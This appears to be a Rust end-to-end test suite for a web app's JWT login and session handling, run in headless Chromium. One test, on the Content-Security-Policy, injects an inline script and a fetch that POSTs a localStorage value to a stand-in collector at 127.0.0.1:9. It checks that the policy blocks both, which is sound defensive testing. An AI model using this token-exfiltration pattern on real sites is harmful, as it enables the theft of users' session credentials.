//! The app end to end: the release build in headless Chromium against the reference backend.
//!
//! ```text
//! trunk build --release && cargo test -p interceptor-e2e -- --test-threads=1
//! ```

mod scenarios;

use interceptor_e2e::{Harness, DEMO_PASSWORD, DEMO_USERNAME};
use serde_json::json;

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn logging_in_through_the_form_shows_the_user_at_home() {
    let h = Harness::start().await;
    scenarios::logging_in_shows_the_user_at_home(&h).await;
    h.finish().await;
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_reload_keeps_the_session() {
    let h = Harness::start().await;
    scenarios::a_reload_keeps_the_session(&h).await;
    h.finish().await;
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn an_expired_access_token_does_not_stop_the_next_action() {
    let h = Harness::start().await;
    scenarios::an_expired_access_token_does_not_stop_the_next_action(&h, false).await;
    h.finish().await;
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_refused_refresh_sends_to_login_and_back_to_the_same_page() {
    let h = Harness::start().await;
    scenarios::a_refused_refresh_sends_to_login_and_back_to_the_same_page(&h).await;
    h.finish().await;
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn logging_out_ends_the_session_on_the_server_too() {
    let h = Harness::start().await;
    scenarios::logging_out_ends_the_session_on_the_server_too(&h).await;
    h.finish().await;
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_logout_in_one_tab_logs_the_other_out() {
    let h = Harness::start().await;
    scenarios::a_logout_in_one_tab_logs_the_other_out(&h).await;
    h.finish().await;
}

/// The page's Content-Security-Policy: the app runs under it, and it refuses what an injected
/// script would need to steal the tokens from localStorage: running inline code, and sending
/// them to another origin.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn the_content_security_policy_refuses_inline_scripts_and_other_origins() {
    let h = Harness::start().await;
    h.log_in_from_home().await;
    let violation = |attempt: &str| {
        format!(
            "return new Promise(resolve => {{
                document.addEventListener('securitypolicyviolation',
                    event => resolve(event.effectiveDirective), {{ once: true }});
                setTimeout(() => resolve('allowed'), 2000);
                {attempt}
            }});"
        )
    };
    let inline = h
        .browser
        .execute(
            &violation(
                "const s = document.createElement('script'); s.textContent = 'window.stolen = 1'; document.head.append(s);",
            ),
            vec![],
        )
        .await;
    assert_eq!(inline, json!("script-src-elem"));
    let elsewhere = h
        .browser
        .execute(
            &violation("fetch('http://127.0.0.1:9/collect', { method: 'POST', body: localStorage.getItem('x') }).catch(() => {});"),
            vec![],
        )
        .await;
    assert_eq!(elsewhere, json!("connect-src"));
    h.finish().await;
}

/// On a slow link the login form is there (index.html's app shell) seconds before the app: what
/// the visitor types, and their "Log in", reach the app when it arrives.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn the_login_form_works_before_the_app_has_arrived() {
    let h = Harness::start_eager().await;
    let browser = &h.browser;
    browser.cdp("Network.enable", json!({})).await;
    browser
        .cdp(
            "Network.emulateNetworkConditions",
            json!({ "offline": false, "latency": 100, "downloadThroughput": 60_000, "uploadThroughput": 60_000 }),
        )
        .await;
    browser.open("/login").await;
    assert!(
        browser.count("#app-shell").await == 1,
        "the page is parsed and the app is not there yet"
    );
    browser.submit_login(DEMO_USERNAME, DEMO_PASSWORD).await;
    assert_eq!(
        browser.count("#app-shell").await,
        1,
        "typed and submitted before the app arrived (it would have removed the shell)"
    );
    browser
        .wait_for_location_within("/", std::time::Duration::from_secs(30))
        .await;
    browser
        .wait_for_text("[data-test=username]", DEMO_USERNAME)
        .await;
    let log = h.server.log().await;
    let logins = log
        .iter()
        .filter(|entry| entry.path.ends_with("/jwt/create/"))
        .count();
    assert_eq!(logins, 1, "one login, with what was typed");
    h.finish().await;
}

/// The backend goes away while a refresh is due and comes back on the same port: the session is
/// kept, the page says it is reconnecting, and it recovers by itself.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn the_server_going_down_during_a_refresh_keeps_the_session_and_recovers() {
    let mut h = Harness::start().await;
    h.server.set_config(json!({ "access_ttl_ms": 3000 })).await;
    h.log_in_from_home().await;
    h.server.reference().go_down().await;

    // The keeper's refresh falls due about 1.7 s after login and cannot connect.
    h.browser
        .wait_for_text("[data-test=connectivity]", "reconnecting (attempt 1)")
        .await;
    assert_eq!(
        h.browser.location().await,
        "/",
        "a network failure is not a logout"
    );
    assert_eq!(
        h.browser.try_text("[data-test=username]").await.as_deref(),
        Ok(DEMO_USERNAME)
    );

    h.server.reference().come_back().await;
    h.browser
        .wait_for_text("[data-test=connectivity]", "online")
        .await;
    h.browser.click_button("Fire 10 requests").await;
    h.browser
        .wait_for_text("[data-test=burst-result]", "10 of 10 succeeded")
        .await;
    assert_eq!(h.browser.location().await, "/");
    h.finish().await;
}
